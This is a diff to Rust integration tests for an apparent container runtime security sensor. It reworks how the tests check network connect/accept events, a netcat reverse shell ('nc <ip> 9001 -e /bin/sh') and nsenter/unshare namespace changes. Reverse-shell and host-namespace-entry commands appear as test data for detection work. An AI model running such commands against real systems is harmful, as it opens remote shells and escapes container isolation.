@@ -29,27 +29,15 @@ fn nc_listen_accept_and_connect_between_two_containers() {
         sock_op(e, "connect", &client).is_some()
     });
     let c = &connect["socket"];
-    // The address is the kernel's copy with a kprobe/fentry hook set, the caller's buffer otherwise.
-    let health = sensor
-        .events()
-        .into_iter()
-        .find(|e| ev::kind(e) == "health")
-        .unwrap();
-    let kernel_copy = !health["health"]["hook_set"]
-        .as_str()
-        .unwrap_or("")
-        .starts_with("tracepoint");
-    assert_eq!(
-        c["address_source"],
-        if kernel_copy { "kernel" } else { "user" },
-        "{c}"
-    );
+    // The cgroup connect hook sees the kernel's copy of the address; the event is the
+    // connect's outcome, with the local port the kernel picked.
+    assert_eq!(c["address_source"], "kernel", "{c}");
     assert_eq!(
         (ev::addr(&c["remote"]), &c["remote"]["port"]),
         (lip.as_str(), &Value::from(8080)),
         "{c}"
     );
-    assert!(c["error"].is_null() || c["error"] == "EINPROGRESS", "{c}");
+    assert!(c["error"].is_null(), "established: {c}");
     let client_ip = ev::addr(&c["local"]).to_string();
     assert!(
         c["local"]["port"].as_u64().unwrap() > 0,
@@ -67,7 +55,7 @@ fn nc_listen_accept_and_connect_between_two_containers() {
     );
     assert_eq!(a["remote"]["port"], c["local"]["port"]);
     assert_eq!(a["local"]["port"], 8080);
-    assert!(a["result"].as_str().unwrap().parse::<i64>().unwrap() >= 0);
+    assert!(a["error"].is_null(), "{a}");
     assert_eq!(accept["process"]["comm"], "nc");
     assert_eq!(connect["process"]["comm"], "nc");
     // TCP state changes are attributed to the socket's container too.
@@ -248,7 +236,7 @@ fn icmp_through_io_uring_is_measured_and_alerts_on_its_payload() {
 }
 
 #[test]
-fn a_netcat_reverse_shell_shows_dup2_and_socket_stdio() {
+fn a_netcat_reverse_shell_shows_socket_stdio_at_exec_and_fork() {
     let sensor = Sensor::start("reverse_shell");
     // The test's own listener, in a container: it sends one command and keeps the line open.
     let listener = sensor.listener(&["sh", "-c", "(echo 'id'; sleep 3) | nc -l -p 9001"]);
@@ -256,23 +244,8 @@ fn a_netcat_reverse_shell_shows_dup2_and_socket_stdio() {
     let shell = docker_run_rm(&[&image(), "nc", lip, "9001", "-e", "/bin/sh"]);
 
     // busybox nc -e moves the socket onto fd 0 and dups it onto 1; unlike nc 1.10 it leaves
-    // stderr alone (see its source), so the shell's stdin and stdout are the socket.
-    let mut fds: Vec<i64> = Vec::new();
-    for fd in 0..2 {
-        let dup = sensor.expect(&format!("dup onto fd {fd}"), |e| {
-            kind_in(e, "stdio_redirect", &shell)
-                .is_some_and(|d| d["newfd"].as_i64().unwrap_or(0) == fd)
-        });
-        let d = &dup["stdio_redirect"];
-        assert_eq!(
-            (ev::addr(&d["remote"]), &d["remote"]["port"]),
-            (lip.as_str(), &Value::from(9001)),
-            "{d}"
-        );
-        assert_eq!(d["type"], "stream");
-        fds.push(fd);
-    }
-    assert_eq!(fds, [0, 1]);
+    // stderr alone (see its source), so the shell's stdin and stdout are the socket. No hook
+    // sits on dup: the kernel reads the fd table at exec and fork.
     let sh = sensor.expect("the shell's exec", |e| {
         ev::container_id(e) == shell && ev::kind(e) == "exec" && e["process"]["exe"] == "/bin/sh"
     });
@@ -282,7 +255,18 @@ fn a_netcat_reverse_shell_shows_dup2_and_socket_stdio() {
         "{sh}"
     );
     assert_eq!(ev::addr(&sh["exec"]["stdio_peer"]), lip);
-    // The listener's `id` ran in the shell, with the socket as its stdio too.
+    // The shell forks to run the listener's `id`: the child inherits the socket stdio.
+    let fork = sensor.expect("the shell's fork", |e| {
+        kind_in(e, "fork", &shell)
+            .is_some_and(|f| f["stdio_socket_fds"] == serde_json::json!([0, 1]))
+    });
+    let f = &fork["fork"];
+    assert_eq!(
+        (ev::addr(&f["stdio_peer"]), &f["stdio_peer"]["port"]),
+        (lip.as_str(), &Value::from(9001)),
+        "{f}"
+    );
+    assert_eq!(fork["process"]["exe"], "/bin/sh", "{fork}");
     let id = sensor.expect("id run by the shell", |e| {
         ev::container_id(e) == shell && ev::is_exec_of(e, "id")
     });
@@ -315,17 +299,28 @@ fn nsenter_into_the_host_and_unshare_are_flagged() {
     let _ = host.kill();
     let _ = host.wait();
 
+    let types = |n: &Value| -> Vec<String> {
+        let mut t: Vec<String> = n["types"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|t| t.as_str().unwrap().to_string())
+            .collect();
+        t.sort();
+        t
+    };
+    // nsenter's, not runc's: runc joins a pre-made network namespace (as with Kubernetes' CNI,
+    // and in the VM harness) from inside the container's cgroup. No hook sits on setns: the
+    // change is found when nsenter execs /bin/true, attributed to nsenter.
+    let setns = sensor.expect("nsenter's change into the host's net and uts", |e| {
+        kind_in(e, "namespace_change", &cid).is_some_and(|n| n["op"] == "changed")
+            && e["process"]["comm"] == "nsenter"
+    });
+    let n = &setns["namespace_change"];
+    assert_eq!(types(n), ["net", "uts"], "{n}");
+    assert_eq!(n["target_is_host"], true, "{n}");
+    assert_eq!(n["target_type"], "net", "{n}");
     for ty in ["net", "uts"] {
-        // nsenter's, not runc's: runc joins a pre-made network namespace (as with Kubernetes'
-        // CNI, and in the VM harness) from inside the container's cgroup.
-        let setns = sensor.expect(&format!("setns into the host's {ty}"), |e| {
-            kind_in(e, "namespace_change", &cid)
-                .is_some_and(|n| n["op"] == "setns" && n["target_type"] == ty)
-                && e["process"]["comm"] == "nsenter"
-        });
-        let n = &setns["namespace_change"];
-        assert_eq!(n["target_is_host"], true, "{n}");
-        assert!(n["error"].is_null(), "{n}");
         assert!(
             n["after_host_types"]
                 .as_array()
@@ -334,14 +329,21 @@ fn nsenter_into_the_host_and_unshare_are_flagged() {
             "{n}"
         );
     }
-    // runc's own unshare also runs in the container's cgroup; ours is the unshare tool's.
+    assert_ne!(n["before"]["net"], n["after"]["net"], "{n}");
+    let alert = sensor.expect_alert("CRS-010", &cid);
+    assert_eq!(alert["process"]["comm"], "nsenter", "{alert}");
+    // runc's own namespace changes also run in the container's cgroup; ours is the unshare
+    // tool's.
     let unshare = sensor.expect("unshare", |e| {
-        kind_in(e, "namespace_change", &cid).is_some_and(|n| n["op"] == "unshare")
+        kind_in(e, "namespace_change", &cid).is_some_and(|n| n["op"] == "changed")
             && e["process"]["comm"] == "unshare"
     });
     let n = &unshare["namespace_change"];
-    assert_eq!(n["types"], serde_json::json!(["uts", "net"]), "{n}");
-    assert!(n["error"].is_null(), "{n}");
+    assert_eq!(types(n), ["net", "uts"], "{n}");
+    assert_ne!(
+        n["target_is_host"], true,
+        "a new namespace, not the host's: {n}"
+    );
     assert!(
         !n["after_host_types"]
             .as_array()
